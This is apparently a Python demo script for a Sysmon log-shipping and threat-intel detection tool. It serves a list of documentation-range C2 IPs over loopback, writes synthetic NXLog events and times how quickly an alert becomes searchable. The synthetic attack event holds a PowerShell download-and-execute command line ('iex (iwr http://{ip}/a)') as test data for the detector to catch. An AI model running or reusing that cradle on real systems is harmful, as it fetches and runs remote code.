"""``make demo``, second part: the seed's promise, live. A loopback HTTP server serves a list of
malicious IPs; ``sysmon-detect intel load --url`` downloads it; ``sysmon-ship watch --detect``
follows a folder of NXLog JSON logs; a process start and its network connection to one of the
listed IPs are appended; the alert is searchable moments later, with process, user, host and
ancestry. The time from the append to the alert being searchable is measured and printed.

Environment as ``devtools.demo`` (``ES_URL`` … or the local node ``demo``;
``SYSMON_INDEX_PREFIX``).
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

SHIP = [sys.executable, "-c", "from shipper.cli import main; main()"]
DETECT = [sys.executable, "-c", "from detectors.cli import main; main()"]
C2_IPS = ("203.0.113.66", "198.51.100.23", "192.0.2.200")  # documentation ranges
HOST = "WS-DEMO.corp.example"
PARENT = "{7d3c1a00-0000-4000-8000-00000000a001}"
GRANDPARENT = "{7d3c1a00-0000-4000-8000-00000000a000}"
CHILD = "{7d3c1a00-0000-4000-8000-00000000a002}"


@dataclass(frozen=True)
class StreamDemoResult:
    latency: float  # seconds from the append to the alert being searchable
    alert: dict[str, Any]
    summary: str  # the watcher's last summary line


@contextmanager
def serve_list(body: bytes) -> Iterator[str]:
    """A loopback HTTP server serving ``body`` at ``/c2-ips.txt``; yields its URL."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/c2-ips.txt"
    finally:
        server.shutdown()
        server.server_close()


def nxlog_line(eid: int, record: int, when: datetime, data: dict[str, str]) -> bytes:
    """One NXLog ``im_msvistalog`` JSON line (``to_json()``), as the OTRF datasets have them."""
    t = when.strftime("%Y-%m-%d %H:%M:%S")
    doc: dict[str, Any] = {
        "EventTime": t,
        "Hostname": HOST,
        "EventType": "INFO",
        "EventID": eid,
        "SourceName": "Microsoft-Windows-Sysmon",
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Version": 5,
        "Task": eid,
        "RecordNumber": record,
        "ExecutionProcessID": 2972,
        "ThreadID": 4464,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Domain": "NT AUTHORITY",
        "AccountName": "SYSTEM",
        "UserID": "S-1-5-18",
        "RuleName": "-",
        "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.") + f"{when.microsecond // 1000:03d}",
        **data,
        "EventReceivedTime": t,
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }
    return json.dumps(doc).encode() + b"\n"


def benign_line(record: int) -> bytes:
    """Explorer connects to an unlisted address (the first network connection of the index:
    its fields get mapped now, not while the attack is timed)."""
    return nxlog_line(3, record, datetime.now(UTC), {
        "ProcessGuid": PARENT, "ProcessId": "3100", "Image": "C:\\Windows\\explorer.exe",
        "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
        "SourceIp": "10.20.0.77", "SourceHostname": HOST, "SourcePort": "50100",
        "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": "10.20.0.10",
        "DestinationHostname": "-", "DestinationPort": "445", "DestinationPortName": "microsoft-ds",
    })  # fmt: skip


def attack_lines(record: int, ip: str) -> bytes:
    """Explorer starts PowerShell (event 1), which connects to ``ip`` (event 3)."""
    now = datetime.now(UTC)
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    start = {
        "ProcessGuid": CHILD, "ProcessId": "4242", "Image": ps,
        "CommandLine": f"{ps} -nop -w hidden -c iex (iwr http://{ip}/a)",
        "CurrentDirectory": "C:\\Users\\alice\\", "User": "CORP\\alice",
        "LogonGuid": "{7d3c1a00-0000-4000-8000-0000000000b1}", "LogonId": "0x3e7aa",
        "TerminalSessionId": "1", "IntegrityLevel": "Medium",
        "Hashes": "SHA256=" + "AB" * 32, "ParentProcessGuid": PARENT, "ParentProcessId": "3100",
        "ParentImage": "C:\\Windows\\explorer.exe", "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "ParentUser": "CORP\\alice",
    }  # fmt: skip
    connect = {
        "ProcessGuid": CHILD, "ProcessId": "4242", "Image": ps, "User": "CORP\\alice",
        "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.0.77",
        "SourceHostname": HOST, "SourcePort": "50123", "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": ip, "DestinationHostname": "-",
        "DestinationPort": "443", "DestinationPortName": "https",
    }  # fmt: skip
    return nxlog_line(1, record, now, start) + nxlog_line(3, record + 1, now, connect)


def _run(cmd: list[str], env: dict[str, str]) -> str:
    proc = subprocess.run(cmd, env=env, capture_output=True, text=True, check=False)
    if proc.returncode != 0:
        raise SystemExit(f"stream demo: `{' '.join(cmd[3:])}` failed ({proc.returncode}):\n{proc.stderr}")
    return proc.stdout


def alert_for(client: Any, prefix: str, ip: str) -> dict[str, Any] | None:
    resp = client.options(ignore_status=503, max_retries=0).search(
        index=f"{prefix}-alerts-*",
        query={
            "bool": {
                "filter": [{"term": {"rule.id": "intel-ip-connection"}}, {"term": {"destination.ip": ip}}]
            }
        },
        ignore_unavailable=True,
        allow_no_indices=True,
    )
    hits = resp.get("hits", {}).get("hits", [])
    return dict(hits[0]["_source"]) if hits else None


def events_count(client: Any, prefix: str) -> int:
    c = client.options(ignore_status=(404, 503), max_retries=0)  # 503: a new index's shard starts
    c.indices.refresh(index=f"{prefix}-events")
    return int(c.count(index=f"{prefix}-events").get("count", 0))


def _wait(cond: Any, timeout: float, what: str) -> Any:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        got = cond()
        if got:
            return got
        time.sleep(0.01)
    raise SystemExit(f"stream demo: {what} did not happen within {timeout:.0f}s")


def run_stream_demo(env: dict[str, str], client: Any, prefix: str, work: Path) -> StreamDemoResult:
    """The whole demo under ``prefix`` in the folder ``work``; the measured result."""
    logs, state = work / "logs", work / "state"
    logs.mkdir(parents=True, exist_ok=True)
    _run([*SHIP, "setup", "--index-prefix", prefix], env)
    _run([*DETECT, "setup", "--prefix", prefix], env)
    with serve_list(("# demo C2 list\n" + "\n".join(C2_IPS) + "\n").encode()) as url:
        print(_run([*DETECT, "intel", "load", "--url", url, "--name", "demo-c2", "--no-hunt",
                    "--cache-dir", str(work / "cache"), "--prefix", prefix], env).strip())  # fmt: skip
    log = logs / "sysmon.ndjson"
    explorer = {
        "ProcessGuid": PARENT, "ProcessId": "3100", "Image": "C:\\Windows\\explorer.exe",
        "CommandLine": "C:\\Windows\\Explorer.EXE", "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": "CORP\\alice", "LogonGuid": "{7d3c1a00-0000-4000-8000-0000000000b1}",
        "LogonId": "0x3e7aa", "TerminalSessionId": "1", "IntegrityLevel": "Medium",
        "Hashes": "SHA256=" + "CD" * 32, "ParentProcessGuid": GRANDPARENT, "ParentProcessId": "3000",
        "ParentImage": "C:\\Windows\\System32\\userinit.exe", "ParentCommandLine": "userinit.exe",
        "ParentUser": "CORP\\alice",
    }  # fmt: skip
    # explorer's own parent was never logged; then a harmless connection (the first events map
    # their fields now, not while the attack is timed: a live index has them mapped already)
    log.write_bytes(nxlog_line(1, 1, datetime.now(UTC), explorer) + benign_line(2))
    # the defaults of watch --detect (poll and flush every 0.1 s)
    watch = [*SHIP, "watch", str(logs), "--detect", "--index-prefix", prefix, "--state-dir", str(state),
             "--no-progress"]  # fmt: skip
    proc = subprocess.Popen(watch, env=env, stderr=subprocess.PIPE, text=True)
    try:
        _wait(lambda: events_count(client, prefix) >= 2, 120, "the watcher shipping the first events")
        with log.open("ab") as fp:
            t0 = time.monotonic()
            fp.write(attack_lines(3, C2_IPS[0]))
        alert = _wait(lambda: alert_for(client, prefix, C2_IPS[0]), 60, "the alert")
        latency = time.monotonic() - t0
    finally:
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    lines = [ln for ln in err.splitlines() if ln.startswith("ship: ")]
    return StreamDemoResult(latency, alert, lines[-1] if lines else err.strip())


def show(res: StreamDemoResult) -> None:
    a = res.alert
    print(f"\nalert searchable {res.latency * 1000:.0f} ms after the connection was appended to the log")
    print(f"  rule      {a['rule']['id']}  ({a['rule']['name']})")
    print(f"  host      {a['host']['name']}")
    print(f"  user      {a['user'].get('domain', '')}\\{a['user']['name']}")
    print(f"  process   {a['process']['executable']} (pid {a['process']['pid']})")
    print(
        f"  to        {a['destination']['ip']}:{a['destination']['port']}  feed {a['threat']['feed']['name']}"
    )
    anc = a.get("ancestry") or {}
    print(
        f"  ancestry  {anc.get('text', '')}"
        + ("  (chain breaks: started before the log)" if anc.get("broken") else "")
    )
    print(f"watcher: {res.summary}")


def main() -> int:
    from devtools.demo import _connect

    connected = _connect()
    if connected is None:
        return 1
    env, client = connected
    prefix = os.environ.get("SYSMON_INDEX_PREFIX", "sysmon")
    with tempfile.TemporaryDirectory(prefix="sysmon-stream-demo-") as tmp:
        show(run_stream_demo(env, client, prefix, Path(tmp)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
